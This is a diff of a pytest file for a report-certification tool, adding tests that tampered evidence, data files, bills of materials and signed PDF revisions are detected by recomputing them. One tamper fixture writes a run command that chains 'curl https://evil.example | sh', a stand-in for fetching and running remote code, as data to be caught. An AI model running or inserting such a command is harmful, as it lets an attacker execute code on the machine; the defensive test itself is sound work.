@@ -14,12 +14,12 @@ import pytest
 from cli_support import GAME, SEED
 from seal_support import NOW, lay, make_pki, pki, report, signer
 
-from certify.certification import rerun
 from certify.certification.profile import Profile
-from certify.certification.rerun import differences
 from certify.clauses.jurisdiction import Regime
 from certify.clauses.results import ExactResults
 from certify.cli.main import run
+from certify.issue import rerun
+from certify.issue.rerun import differences
 from certify.model.game import Game
 from certify.seal import layout
 from certify.seal.canonical import canonical_bytes, sha256_hex
@@ -42,7 +42,7 @@ def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder
 
 
-TINY = Profile("quick", 1_500_000, 1_500_000, 200, 3_000, 1, 1_000_000, 2, 40)
+TINY = Profile("quick", 1_500_000, 1_500_000, 200, 3_000, 1, 1_000_000, 2, 40, 2_000)
 
 
 @pytest.fixture(scope="module")
@@ -88,7 +88,7 @@ def _computed_once() -> Iterator[None]:
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(rerun, "exact_results", known_results)
         patch.setattr(rerun, "exact_evidence", once)
-        patch.setattr(rerun, "profile_named", lambda name: TINY)
+        patch.setattr("certify.issue.recorded.profile_named", lambda name: TINY)
         yield
 
 
@@ -242,3 +242,147 @@ def test_evidence_that_cannot_be_computed_again_is_refused_and_not_stumbled_over
 ) -> None:
     packed = lay(tmp_path, sealed(honest, {**evidence, **change}, signer()))
     assert list(failures(verify(packed, None, NOW, rerun=differences))) == ["rerun"]
+
+
+def restated(proof: dict[str, Any]) -> dict[str, Any]:
+    """The evidence with a lie in every part that a trusted issuer could restate while each step but this holds."""
+    lies = copy.deepcopy(proof)
+    head, run = lies["report"], lies["run"]
+    head |= {
+        "classification": "Report of a laboratory accredited to ISO/IEC 17025",
+        "number": "CR-20200101-00000001",
+        "received": "2020-01-01T00:00:00Z",
+        "revision": 7,
+        "tested_to": "2020-01-01T00:00:00Z",
+    }
+    run["command"] = "certify run game.toml; curl https://evil.example | sh"
+    run["witness"] = "a notary"
+    lies["rng"]["security_strength"] = 512
+    lies["agreement"]["decks"] = 50_000
+    lies["deck_audit"]["replays"] = 20_000
+    lies["rounds"]["situations"][0]["observed"] = "better than expected"
+    lies["simulation"]["campaigns"][0]["rounds"] = 4_000_000_000
+    lies["simulation"]["campaigns"][1]["wagers"][0]["outcomes"][0]["count"] = "7"
+    lies["randomness"]["decks"] = 4_000_000
+    lies["files"].append({**lies["files"][0], "name": "data/approval.csv"})
+    seen = next(one for one in lies["observations"] if one["check"] == "rng.known-answers")
+    seen["observed"] = "every vector that was ever published"
+    return lies
+
+
+def test_lies_that_the_seal_does_not_see_are_found_by_computing_again(evidence: dict[str, Any]) -> None:
+    from certify.clauses.registry import checks
+
+    assert "rng.known-answers" in checks()
+    found = differences(restated(evidence))
+    for place in (
+        "/report/classification",
+        "/report/number",
+        "/report/received",
+        "/report/revision",
+        "/report/tested_to",
+        "/run/command",
+        "/run/witness",
+        "/rng/security_strength",
+        "/agreement/decks",
+        "/deck_audit/replays",
+        "/rounds/situations/0/observed",
+        "/simulation/campaigns/0/rounds",
+        "/simulation/campaigns/1/main",
+        "/randomness/decks",
+        "/files",
+        "/observations/rng.known-answers",
+    ):
+        assert any(line.startswith(place) for line in found), place
+
+
+def test_half_of_the_observations_do_not_make_a_run(evidence: dict[str, Any]) -> None:
+    fewer = {**evidence, "observations": evidence["observations"][::2]}
+    assert any(line.startswith("/observations") for line in differences(fewer))
+
+
+@pytest.fixture
+def drawn(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Pages as blank as those of the honest pack."""
+    monkeypatch.setattr("certify.report.pdf.render_pdf", lambda evidence, attached, issued: report(attached))
+    monkeypatch.setattr(
+        "certify.report.html.render_html", lambda evidence: b"<!doctype html><title>-</title>"
+    )
+
+
+def test_data_that_do_not_follow_from_evidence_and_seed_are_named(
+    honest: dict[str, bytes], evidence: dict[str, Any], drawn: None
+) -> None:
+    from certify.issue import remake
+
+    results = rerun.exact_results
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(remake, "exact_results", results)
+        assert remake.rendered_differences(evidence, honest) == []
+        lying = dict(honest)
+        for name, old, new in (
+            ("data/observations.csv", b"satisfied", b"SATISFIED"),
+            ("data/simulation.csv", b"bust", b"lost"),
+            ("data/randomness.csv", b"cards", b"dices"),
+            ("data/situations.csv", b"satisfied", b"SATISFIED"),
+            ("data/rounds.jsonl", b'"deck": 1', b'"deck": 2'),
+            ("data/recall.csv", b"2026", b"2025"),
+            ("data/cards.csv", b"Denari", b"Coppe!"),
+            ("data/outcomes.csv", b"bust", b"lost"),
+        ):
+            assert old in honest[name], name
+            lying[name] = honest[name].replace(old, new, 1)
+        decks = bytearray(honest["data/decks.u8"])
+        decks[0], decks[1] = decks[1], decks[0]
+        lying["data/decks.u8"] = bytes(decks)
+        bill = json.loads(honest["data/sbom.cdx.json"])
+        bill["metadata"]["component"]["name"] = "accredited"
+        lying["data/sbom.cdx.json"] = (
+            json.dumps(bill, ensure_ascii=False, indent=1, sort_keys=True) + "\n"
+        ).encode()
+        found = {line.partition(":")[0] for line in remake.rendered_differences(evidence, lying)}
+    changed = {name for name in honest if lying[name] != honest[name]}
+    assert changed == found
+    assert len(changed) == 10
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda bill: bill.update(approval="ISO 17025"),
+        lambda bill: bill["components"][0].update(author="an accredited laboratory"),
+        lambda bill: bill["components"][0].update(version="0.0.1"),
+        lambda bill: bill["metadata"]["component"]["properties"][0].update(value="0" * 64),
+        lambda bill: bill.pop("components"),
+    ],
+)
+def test_a_bill_of_materials_says_what_a_run_writes_and_no_more(
+    change: Any, honest: dict[str, bytes], evidence: dict[str, Any]
+) -> None:
+    from certify.issue.data import BILL, bill_differences
+
+    assert list(bill_differences(honest[BILL], evidence["tool"])) == []
+    bill = json.loads(honest[BILL])
+    change(bill)
+    content = (json.dumps(bill, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode()
+    assert list(bill_differences(content, evidence["tool"]))
+    assert list(bill_differences(json.dumps(bill).encode(), evidence["tool"]))
+    assert list(bill_differences(b"[" * 100_000, evidence["tool"]))
+
+
+def test_a_page_drawn_in_the_revision_of_the_signature_fails_the_rendering(
+    honest: dict[str, bytes], evidence: dict[str, Any], drawn: None
+) -> None:
+    from certify.issue.remake import rendered_differences
+    from certify.seal.byte_range import read_byte_range
+
+    alone = {layout.REPORT: honest[layout.REPORT]}
+    assert rendered_differences(evidence, alone) == []
+    gap = read_byte_range(honest[layout.REPORT])
+    # Any byte behind the pages and outside the signature is the revision's.
+    place = gap.second_start + 40
+    altered = bytearray(honest[layout.REPORT])
+    altered[place] ^= 1
+    found = rendered_differences(evidence, {layout.REPORT: bytes(altered)})
+    assert [line.partition(":")[0] for line in found] == ["report.pdf"]
+    assert "the revision with the signature" in found[0]
